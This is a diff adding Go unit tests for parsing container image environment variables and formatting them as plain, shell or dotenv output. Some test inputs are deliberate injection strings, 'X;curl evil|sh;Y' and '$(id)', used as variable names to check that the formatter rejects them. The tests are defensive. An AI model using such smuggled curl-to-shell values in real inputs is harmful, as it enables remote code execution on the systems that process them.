@@ -0,0 +1,86 @@
+package env
+
+import (
+	"testing"
+
+	"github.com/jcchavezs/nuro/internal/registrytest"
+	"github.com/stretchr/testify/require"
+)
+
+func TestParseEnv(t *testing.T) {
+	vars := parseEnv([]string{
+		"PATH=/usr/bin:/bin",
+		"EMPTY",
+		"OPTS=a=b",
+		"=invalid",
+		"some.var=x",
+		"X;curl evil|sh;Y=1",
+	})
+	require.Equal(t, []variable{
+		{Name: "PATH", Value: "/usr/bin:/bin"},
+		{Name: "EMPTY", Value: ""},
+		{Name: "OPTS", Value: "a=b"},
+		{Name: "some.var", Value: "x"},
+		{Name: "X;curl evil|sh;Y", Value: "1"},
+	}, vars)
+}
+
+func TestFormatVariable(t *testing.T) {
+	tests := []struct {
+		name     string
+		value    string
+		format   Format
+		expected string
+	}{
+		{name: "plain", value: "hello world", format: Plain, expected: "V=hello world"},
+		{name: "shell", value: "hello world", format: Shell, expected: "export V='hello world'"},
+		{name: "shell with single quote", value: "it's $HOME", format: Shell, expected: `export V='it'\''s $HOME'`},
+		{name: "dotenv simple", value: "/usr/bin", format: Dotenv, expected: "V=/usr/bin"},
+		{name: "dotenv with special characters", value: `say "hi" to $USER`, format: Dotenv, expected: `V="say \"hi\" to \$USER"`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			actual, ok := formatVariable(variable{Name: "V", Value: tt.value}, tt.format)
+			require.True(t, ok)
+			require.Equal(t, tt.expected, actual)
+		})
+	}
+}
+
+func TestFormatVariableInvalidName(t *testing.T) {
+	for _, name := range []string{"X;curl evil|sh;Y", "1ST", "$(id)", "some.var", "some-var"} {
+		t.Run(name, func(t *testing.T) {
+			for _, f := range []Format{Shell, Dotenv} {
+				_, ok := formatVariable(variable{Name: name, Value: "x"}, f)
+				require.False(t, ok)
+			}
+
+			actual, ok := formatVariable(variable{Name: name, Value: "x"}, Plain)
+			require.True(t, ok)
+			require.Equal(t, name+"=x", actual)
+		})
+	}
+}
+
+func TestEnv(t *testing.T) {
+	reg := registrytest.New(t)
+	reg.PutImage(t, []byte(`{"architecture":"amd64","os":"linux","config":{"Env":["PATH=/usr/bin","some.var=x","$(id)=y"]}}`), nil, "latest")
+	ref := reg.Host() + "/org/app:latest"
+
+	out, err := registrytest.Execute(t, RootCmd, ref, "--insecure")
+	require.NoError(t, err)
+	require.Equal(t, "PATH=/usr/bin\nsome.var=x\n$(id)=y\n", out)
+
+	out, err = registrytest.Execute(t, RootCmd, ref, "--insecure", "--get", "some.var")
+	require.NoError(t, err)
+	require.Equal(t, "x\n", out)
+
+	out, err = registrytest.Execute(t, RootCmd, ref, "--insecure", "--format", "json")
+	require.NoError(t, err)
+	require.JSONEq(t, `{"PATH":"/usr/bin","some.var":"x","$(id)":"y"}`, out)
+
+	out, err = registrytest.Execute(t, RootCmd, ref, "--insecure", "--format", "shell")
+	require.NoError(t, err)
+	require.Equal(t, "export PATH='/usr/bin'\n", out)
+}